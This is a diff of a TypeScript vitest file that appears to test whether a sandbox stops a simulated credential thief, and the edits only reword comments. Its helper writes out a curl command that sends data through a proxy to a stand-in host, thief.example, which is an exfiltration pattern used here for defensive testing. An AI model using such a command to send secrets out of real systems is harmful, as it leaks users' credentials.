@@ -7,15 +7,18 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { LogSummary } from '../../src/bottle/log/summary.ts';
 import { makeHome, type Home } from '../support/home.ts';
 
-/** A thief in the bottle takes the credentials that it finds, and sends them out. Judged by what the host outside heard. */
+/**
+ * A thief in the bottle takes the credentials that it finds and sends them out. The test judges by the data that the
+ * host outside received.
+ */
 
-/** An address of this host that a sidecar reaches too. */
+/** Returns an address of this host that a sidecar can reach too. */
 const hostAddress = (): string =>
   Object.values(networkInterfaces())
     .flatMap((list) => list ?? [])
     .find(({ address, internal }) => isIPv4(address) && !internal)?.address ?? '127.0.0.1';
 
-/** Of a longer body, only the digest is compared. */
+/** Longer bodies are compared by digest only. */
 const SHORT_BYTES = 64 * 1024;
 const sha256 = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex');
 
@@ -66,7 +69,7 @@ const start = async (agent: string, script: string, runtime: readonly string[] =
     ),
   );
 
-/** Each command says the status that it was answered with. */
+/** Each command prints the status of its answer. */
 const sending = (...data: readonly string[]): string => {
   const { port } = host.address() as AddressInfo;
   const curl = `curl -s -o /dev/null -w '%{http_code}\\n' -x "$HTTP_PROXY" http://thief.example:${port}/`;
